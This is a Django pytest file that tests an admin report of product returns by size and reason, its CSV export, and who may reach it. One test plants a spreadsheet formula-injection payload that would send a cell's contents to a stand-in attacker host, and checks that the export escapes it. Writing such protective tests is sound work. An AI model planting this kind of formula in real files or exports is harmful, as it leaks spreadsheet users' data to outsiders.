"""Return reasons as data: head office edits the list, reads a product's returns per size and reason on its admin
page and exports every SKU's as CSV."""

import csv
import io

import pytest

from orders import services
from orders.models import Return
from tests.orders.returns_helpers import delivered, line, net, rnet  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db


@pytest.fixture
def returned(rnet):  # noqa: F811
    first = delivered(rnet, [("TEE-M", 2, "20.00")])
    second = delivered(rnet, [("TEE-M", 1, "20.00"), ("JEANS-42", 1, "89.90")], email="marco@example.com")
    services.request_return(how="in_store", location=rnet["MI01"], lines=[line(first, "TEE-M", 2, "too_small")])
    services.request_return(
        how="in_store",
        location=rnet["MI01"],
        lines=[line(second, "TEE-M", 1, "too_small"), line(second, "JEANS-42", 1, "too_big")],
    )
    cancelled = delivered(rnet, [("TEE-M", 1, "20.00")], email="anna@example.com")
    services.cancel_return(
        return_request=services.request_return(
            how="in_store", location=rnet["MI01"], lines=[line(cancelled, "TEE-M", 1, "damaged")]
        )
    )
    assert Return.objects.count() == 3
    return rnet


def test_a_products_page_shows_its_returns_per_size_and_reason(admin_client, returned):
    tee = returned["skus"]["TEE-M"]
    page = admin_client.get(f"/admin/inventory/product/{tee.product.pk}/change/")
    assert page.status_code == 200
    rows = page.context["return_reasons"]
    assert [(r["order_line__sku__code"], r["reason__code"], r["units"]) for r in rows] == [("TEE-M", "too_small", 3)]
    assert "Returns by size and reason" in page.content.decode()


def test_every_skus_returns_export_as_csv(admin_client, returned):
    response = admin_client.get("/admin/orders/returnreason/report.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["sku"], r["reason"], r["units_returned"], r["returns"]) for r in rows] == [
        ("TEE-M", "too_small", "3", "2"),
        ("JEANS-42", "too_big", "1", "1"),
    ]
    assert rows[0]["reason_it"] == "Troppo piccolo"
    one = admin_client.get(
        f"/admin/orders/returnreason/report.csv?product={returned['skus']['JEANS-42'].product.style}"
    )
    assert [r["sku"] for r in csv.DictReader(io.StringIO(one.content.decode()))] == ["JEANS-42"]


def test_the_reasons_list_is_edited_in_the_admin_and_store_staff_cannot(admin_client, client, returned):
    listing = admin_client.get("/admin/orders/returnreason/")
    assert listing.status_code == 200 and "report.csv" in listing.content.decode()
    assert admin_client.get("/admin/orders/return/").status_code == 200
    one = Return.objects.first()
    detail = admin_client.get(f"/admin/orders/return/{one.pk}/change/")
    assert detail.status_code == 200 and one.number in detail.content.decode()
    assert client.get("/admin/orders/returnreason/report.csv").status_code == 302  # to the admin login


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(admin_client, returned):
    # A product name imported as a formula reaches the export as text (issue 25, item 12).
    product = returned["skus"]["TEE-M"].product
    product.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    product.save(update_fields=["name"])
    response = admin_client.get("/admin/orders/returnreason/report.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    tee = next(r for r in rows if r["sku"] == "TEE-M")
    assert tee["product"] == "'" + product.name and tee["units_returned"] == "3"
